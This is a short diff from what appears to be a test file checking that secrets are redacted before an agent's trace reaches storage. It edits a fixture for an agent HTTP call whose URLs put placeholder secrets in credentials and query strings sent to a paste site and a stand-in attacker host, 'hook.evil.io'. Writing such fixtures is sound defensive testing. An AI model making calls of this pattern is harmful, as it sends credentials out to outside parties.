@@ -87,7 +87,7 @@ describe('no secret reaches a store', () => {
       agent: { id: 'support-agent-01', name: 'support-agent', source: 'span' }, credential: SECRETS[6],
       action: { kind: 'http', method: 'POST', template: '/upload', signature: 'POST paste-b.io/upload', write: true },
       host: 'paste-b.io', url: `https://u:${SECRETS[0]}@paste-b.io/upload?token=${SECRETS[1]}`, external: true,
-      destinations: [{ kind: 'url', value: `https://hook.evil.io/in?token=${SECRETS[4]}` }], resource: `paste-b.io/upload/${SECRETS[7]}`,
+      destinations: [{ kind: 'host', value: `https://hook.evil.io/in?token=${SECRETS[4]}` }], resource: `paste-b.io/upload/${SECRETS[7]}`,
       outcome: { ok: false, status: 401, error: `Bearer ${SECRETS[5]}` }, retries: 0, sensitive: false,
     };
     writeFileSync(replayFile, `${JSON.stringify(secretTrace(Date.UTC(2026, 5, 1, 13)))}\n${JSON.stringify(call)}\n`);
